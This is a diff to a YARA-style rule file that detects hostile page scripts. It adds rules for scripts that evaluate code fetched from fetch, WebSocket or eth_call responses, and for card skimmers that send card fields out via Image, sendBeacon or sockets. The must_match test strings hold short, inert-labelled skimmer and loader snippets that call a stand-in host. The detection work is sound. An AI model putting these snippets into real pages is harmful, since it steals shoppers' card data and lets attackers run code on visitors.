@@ -23,6 +23,54 @@ rule skimmer {
     $place and $fields and $card and $coded and $sent and not $library and filesize < 60KB
 }
 
+rule answers_run_as_script {
+  meta:
+    id = "page-script/runs-what-is-fetched"
+    title = "A script runs whatever another server answers"
+    family = "injected"
+    severity = "high"
+    confidence = "likely"
+    description = "What a request, a socket or a chain of blocks answers is given to eval or to a function made of it: the attacker changes what runs at any time."
+    remedy = "Delete the file, or restore it from the release of its vendor if it belongs to one."
+    reference = "https://attack.mitre.org/techniques/T1059/007/"
+    must_match = "/* inert */ fetch('//inert.test/a').then(r => r.text()).then(t => eval(t));"
+    must_match = "/* inert */ w = new WebSocket(u); w.onmessage = function (e) { new Function(e.data)(); };"
+    must_match = "/* inert */ fetch(u, {body: JSON.stringify({method: 'eth_call'})}).then(r => r.json()).then(j => eval(atob(j.result)));"
+    must_not = "fetch('/menu.json').then(r => r.json()).then(d => show(d)); w.onmessage = function (e) { JSON.parse(e.data); }; eval('1');"
+  strings:
+    $fetched = /\bfetch\([^;]{1,300}\)\s{0,4}\.then\([^;]{0,160}\.then\([^;]{0,80}\b(eval|Function)\s?\(\s?\w{1,20}\s?\)/
+    $socket = /\.onmessage\s?=[^;]{0,80}\b(eval|Function)\s?\(\s?\w{1,20}\.data\s?\)/
+    $chain = "eth_call"
+    $decoded = /\b(eval|Function)\s?\(\s?(window\.)?(atob|decodeURIComponent)\s?\(/
+  condition:
+    ($fetched or $socket or ($chain and $decoded)) and filesize < 256KB
+}
+
+rule card_fields_sent {
+  meta:
+    id = "page-script/card-fields-sent"
+    title = "Card data is copied out of the checkout"
+    family = "skimmer-or-phish"
+    severity = "critical"
+    confidence = "likely"
+    description = "What is typed into card fields, or looks like a card number, goes to another address by an image, a beacon or a socket."
+    remedy = "Delete the file, or restore it from the release of its vendor if it belongs to one."
+    reference = "https://attack.mitre.org/techniques/T1056/003/"
+    must_match = "/* inert */ if (/card|cvv/.test(d)) new Image().src = u + '?x=' + btoa(JSON.stringify(d));"
+    must_match = "/* inert */ if (/(\\d{4}[ -]?){4}/.test(o)) navigator.sendBeacon('https://inert.test/g', btoa(o));"
+    must_match = "/* inert */ q('#cvv').onchange = function (e) { (new Image).src = '//inert.test/p.gif?' + encodeURIComponent(e.value); };"
+    must_not = "var c = field('cc_number').value; new Image().src = '/pixel.gif?page=' + encodeURIComponent(location.pathname);"
+    must_not = "if (card) navigator.sendBeacon('/stats', JSON.stringify({ viewed: card.id }));"
+  strings:
+    $card = /(cc_number|cc_cid|card_?-?number|\bcvv2?\b|\bcvc\b|ccnum)/ nocase
+    $digits = /\(\\d\{4\}\[[^\]\n]{1,6}\]\??\)\{4\}/
+    $image = /new Image\b\s?(\(\s?\))?\s?\)?\.src\s?=\s?[^;\n]{0,160}(btoa\s?\(|\.value\b)/
+    $beacon = /\bsendBeacon\s?\([^;\n]{0,160}(btoa\s?\(|\.value\b)/
+    $socket = /new WebSocket\b[^\n]{0,600}\.send\s?\([^;\n]{0,80}(btoa\s?\(|\.value\b)/
+  condition:
+    ($card or $digits) and any of ($image, $beacon, $socket) and filesize < 256KB
+}
+
 rule script_from_char_codes {
   meta:
     id = "page-script/hidden-loader"
@@ -35,15 +83,19 @@ rule script_from_char_codes {
     reference = "https://attack.mitre.org/techniques/T1027/"
     must_match = "/* inert */ eval(String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 105, 110, 101, 114, 116, 46, 116, 101, 115, 116));"
     must_match = "/* inert */ document.write(unescape('%3C%73%63%72%69%70%74%20'));"
+    must_match = "/* inert */ new WebSocket(atob('d3NzOi8vaW5lcnQudGVzdC8='));"
+    must_match = "/* inert */ location.href = String.fromCharCode(104,116,116,112,115,58,47,47,105,110,101,114,116);"
+    must_not = "a.href = atob(a.dataset.to); img.src = 'data:image/png;base64,' + atob('iVBORw0KGgo=');"
     must_not = "document.write(String.fromCharCode(60,97,32,104,114,101,102,61,34,109,97,105,108,116,111,58,109,101));"
     must_not = "var a = String.fromCharCode(65, 66); eval('1');"
   strings:
-    $codes = /\b(eval|document\.write(ln)?|appendChild|\.src\s?=|createElement)\s?\(?\s?String\.fromCharCode\(\s?(\d{2,3}\s?,\s?){10}/ nocase
+    $codes = /\b(eval|document\.write(ln)?|appendChild|\.src\s?=|location(\.href)?\s?=|createElement)\s?\(?\s?String\.fromCharCode\(\s?(\d{2,3}\s?,\s?){10}/ nocase
     $anchor = /document\.write(ln)?\s?\(?\s?String\.fromCharCode\(\s?60\s?,\s?97\s?,\s?32\s?,\s?104\s?,\s?114\s?,\s?101\s?,\s?102\s?,\s?61\s?,\s?34\s?,\s?109\s?,\s?97\s?,\s?105/ nocase
     $escapes = /document\.write(ln)?\s?\(\s?unescape\s?\(\s?['"]%3C%73%63%72%69%70%74/ nocase
+    $address = /(\.(src|href|open)|\blocation|\bWebSocket|\bfetch|\bsendBeacon|\bimport)\s?[=(]\s?(["'](GET|POST)["']\s?,\s?)?(window\.)?atob\s?\(\s?["'](aHR0c|d3Nz|d3M6|Ly9|Ly8)/
     $later = /var \w{1,20}\s?=\s?String\.fromCharCode\(\s?(\d{2,3}\s?,\s?){25}[^;]{0,4000};[^;]{0,80}(createElement|document\.write|appendChild)/ nocase
   condition:
-    #codes > #anchor or any of ($escapes, $later)
+    #codes > #anchor or any of ($escapes, $later, $address)
 }
 
 rule page_written_from_escapes {
